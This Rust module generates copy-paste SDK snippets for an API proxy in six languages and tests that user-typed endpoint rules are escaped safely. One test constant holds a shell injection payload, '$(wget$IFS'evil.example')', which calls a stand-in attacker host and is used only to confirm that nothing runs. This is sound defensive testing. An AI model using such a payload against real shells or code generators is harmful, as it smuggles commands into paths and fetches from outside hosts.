//! Copy-paste examples for a Proxy: a stock SDK with two settings changed, the base URL and the key.
//! One file per SDK family; all of them show the edge's real address and expect the app user's token in `userToken`.

mod anthropic;
mod gemini;
mod http;
mod openai;
mod plain;

use crate::catalogue;
use crate::rules::EndpointRule;
use crate::view::Snippet;

/// The example of each platform, Flutter first. `edge_url` is `https://edge.example.com/{slug}`, without a slash at its end.
pub fn snippets(provider: &str, edge_url: &str, rules: &[EndpointRule]) -> Vec<Snippet> {
    match provider {
        "anthropic" => return anthropic::snippets(edge_url),
        "gemini" => return gemini::snippets(edge_url),
        _ => {}
    }
    let Some(known) = catalogue::provider(provider) else { return plain::snippets(edge_url, rules) };
    match (&known.open_ai_sdk, &known.example) {
        (Some(sdk), _) => openai::snippets(edge_url, sdk, provider == "openai"),
        (None, Some(example)) => http::snippets(edge_url, example, &known.key_placement),
        (None, None) => plain::snippets(edge_url, rules),
    }
}

#[derive(Clone, Copy)]
enum Platform {
    Flutter,
    Swift,
    Kotlin,
    ReactNative,
    JavaScript,
    Curl,
}

impl Platform {
    fn snippet(self, package: &str, code: &str) -> Snippet {
        let (id, title, language) = match self {
            Self::Flutter => ("flutter", "Flutter", "dart"),
            Self::Swift => ("swift", "Swift", "swift"),
            Self::Kotlin => ("kotlin", "Kotlin", "kotlin"),
            Self::ReactNative => ("react-native", "React Native", "typescript"),
            Self::JavaScript => ("javascript", "JavaScript", "javascript"),
            Self::Curl => ("curl", "curl", "sh"),
        };
        let title = if package.is_empty() { title.to_owned() } else { format!("{title} ({package})") };
        Snippet { id: id.to_owned(), title, language: language.to_owned(), code: code.to_owned() }
    }

    /// Fills `{name}` places; code is full of braces, so `format!` would make it unreadable.
    fn fill(self, template: &str, places: &[(&str, Place)]) -> String {
        places.iter().fold(template.to_owned(), |code, (name, place)| match place {
            Place::Code(value) => code.replace(name, value),
            Place::Text(value) => code.replace(name, &self.escaped(value)),
        })
    }

    /// As it stands between the double quotes of the language; in a shell, between single ones.
    fn escaped(self, text: &str) -> String {
        let special: &[char] = match self {
            // `$` begins an interpolation.
            Self::Flutter | Self::Kotlin => &['\\', '"', '$'],
            Self::Swift | Self::ReactNative | Self::JavaScript => &['\\', '"'],
            Self::Curl => return text.replace('\'', r"'\''"),
        };
        text.chars().fold(String::new(), |mut escaped, letter| {
            if special.contains(&letter) {
                escaped.push('\\');
            }
            escaped.push(letter);
            escaped
        })
    }
}

/// What goes into a template.
#[derive(Clone, Copy)]
enum Place<'a> {
    /// Part of the program as it is.
    Code(&'a str),
    /// Part of a string literal. Rules and addresses are typed by people, and the example is pasted into a shell or an
    /// app by another member of the account: nothing in them may be run.
    Text(&'a str),
}

/// How each platform gets the token, for the comment above `userToken`.
const TOKEN_HINT: &str = "the signed-in user's token. Firebase: getIdToken(); Supabase: session.access_token";

#[cfg(test)]
mod tests {
    use super::*;

    const EDGE: &str = "https://edge.example.com/abcdefghijkl";

    fn code(provider: &str, id: &str, edge_url: &str) -> String {
        let rule = EndpointRule {
            method: "GET".to_owned(),
            template: "/v1/things".to_owned(),
            query: vec![],
            headers: vec![],
        };
        let found = snippets(provider, edge_url, &[rule]).into_iter().find(|snippet| snippet.id == id);
        found.expect("every platform is there").code
    }

    #[test]
    fn every_provider_has_every_platform_and_no_place_left_open() {
        for provider in crate::catalogue::providers().iter().map(|provider| provider.name.as_str()) {
            let all = snippets(provider, EDGE, &[]);
            let ids: Vec<&str> = all.iter().map(|snippet| snippet.id.as_str()).collect();
            assert_eq!(ids, ["flutter", "swift", "kotlin", "react-native", "javascript", "curl"], "{provider}");
            for snippet in all {
                let places =
                    ["edge_url", "base_url", "before_v1", "token_hint", "path", "url", "in_query", "headers", "body"];
                let place = places.iter().any(|place| snippet.code.contains(&format!("{{{place}}}")))
                    || snippet.code.contains("\"{model}\"");
                assert!(!place, "{provider} {}:\n{}", snippet.id, snippet.code);
                let names_the_edge = snippet.code.contains(EDGE) || snippet.code.contains("/abcdefghijkl");
                assert!(names_the_edge, "{provider} {}:\n{}", snippet.id, snippet.code);
            }
        }
    }

    #[test]
    fn each_sdk_gets_the_base_url_in_the_form_it_wants() {
        for (provider, id, want) in [
            ("openai", "javascript", "baseURL: \"https://edge.example.com/abcdefghijkl/v1\""),
            ("openai", "react-native", "baseURL: \"https://edge.example.com/abcdefghijkl/v1\""),
            ("openai", "flutter", "OpenAI.baseUrl = \"https://edge.example.com/abcdefghijkl\";"),
            ("openai", "swift", "basePath: \"/abcdefghijkl/v1\""),
            ("openai", "kotlin", "OpenAIHost(baseUrl = \"https://edge.example.com/abcdefghijkl/v1/\")"),
            ("anthropic", "javascript", "baseURL: \"https://edge.example.com/abcdefghijkl\""),
            ("gemini", "javascript", "httpOptions: { baseUrl: \"https://edge.example.com/abcdefghijkl\" }"),
            ("groq", "javascript", "baseURL: \"https://edge.example.com/abcdefghijkl/openai/v1\""),
            ("groq", "flutter", "OpenAI.baseUrl = \"https://edge.example.com/abcdefghijkl/openai\";"),
            ("groq", "swift", "basePath: \"/abcdefghijkl/openai/v1\", parsingOptions: .relaxed"),
            ("zai", "flutter", "Uri.parse(\"https://edge.example.com/abcdefghijkl/api/paas/v4/chat/completions\")"),
            ("perplexity", "kotlin", "OpenAIHost(baseUrl = \"https://edge.example.com/abcdefghijkl/\")"),
            ("fal", "javascript", "\"Authorization\": `Key ${userToken}`"),
            ("deepgram", "swift", "setValue(\"Token \\(userToken)\", forHTTPHeaderField: \"Authorization\")"),
            ("brave", "curl", "-H \"x-subscription-token: $USER_TOKEN\""),
            ("elevenlabs", "flutter", "request.headers[\"xi-api-key\"] = \"$userToken\";"),
            ("open-meteo", "curl", "current=temperature_2m'\"&apikey=$USER_TOKEN\""),
            ("open-meteo", "kotlin", "current=temperature_2m&apikey=$userToken\""),
            (
                "deepl",
                "kotlin",
                r#".method("POST", "{\"target_lang\":\"DE\",\"text\":[\"Hello, world!\"]}".toRequestBody())"#,
            ),
            ("custom", "curl", "https://edge.example.com/abcdefghijkl/v1/things"),
        ] {
            assert!(code(provider, id, EDGE).contains(want), "{provider} {id}:\n{}", code(provider, id, EDGE));
        }
    }

    #[test]
    fn swift_names_scheme_and_port_where_they_are_unusual() {
        let local = code("openai", "swift", "http://localhost:8080/abcdefghijkl");
        assert!(
            local.contains("host: \"localhost\", port: 8080, scheme: \"http\", basePath: \"/abcdefghijkl/v1\""),
            "{local}"
        );
    }

    /// A path that a rule may have and that is a program to a shell, in Dart and in Kotlin.
    const HOSTILE: &str = "/v1/$(wget$IFS'evil.example')";

    fn hostile(id: &str) -> String {
        let rules = crate::validate::parse_rule_lines(&format!("GET {HOSTILE}")).expect("a rule may look like this");
        let found = snippets("custom", EDGE, &rules).into_iter().find(|snippet| snippet.id == id);
        found.expect("every platform is there").code
    }

    #[test]
    fn a_rule_is_text_in_every_language() {
        for (id, want) in [
            ("flutter", r#""https://edge.example.com/abcdefghijkl/v1/\$(wget\$IFS'evil.example')""#),
            ("kotlin", r#""https://edge.example.com/abcdefghijkl/v1/\$(wget\$IFS'evil.example')""#),
            ("swift", r#""https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'evil.example')""#),
            ("javascript", r#""https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'evil.example')""#),
            ("curl", r#"'https://edge.example.com/abcdefghijkl/v1/$(wget$IFS'\''evil.example'\'')'"#),
        ] {
            assert!(hostile(id).contains(want), "{id}:\n{}", hostile(id));
        }
    }

    #[test]
    fn quotes_and_backslashes_do_not_end_a_literal() {
        assert_eq!(Platform::Swift.escaped(r#"\(exit()) ""#), r#"\\(exit()) \""#);
        assert_eq!(Platform::JavaScript.escaped(r#"" + x"#), r#"\" + x"#);
        assert_eq!(Platform::Flutter.escaped(r#"${x}\"#), r#"\${x}\\"#);
        assert_eq!(Platform::Curl.escaped(r#"$x "`'"#), r#"$x "`'\''"#);
    }

    #[test]
    fn a_shell_hands_the_address_to_curl_as_it_is_and_runs_nothing() {
        let script = format!("wget() {{ echo RUN >&2; }}; curl() {{ printf '%s\\n' \"$@\"; }}\n{}", hostile("curl"));
        let ran = std::process::Command::new("sh").args(["-c", &script]).env("USER_TOKEN", "token").output();
        let output = ran.expect("there is a shell");
        let printed = String::from_utf8_lossy(&output.stdout).into_owned();
        assert!(printed.lines().any(|argument| argument == format!("{EDGE}{HOSTILE}")), "{printed}");
        assert!(output.stderr.is_empty(), "{}", String::from_utf8_lossy(&output.stderr));
    }
}
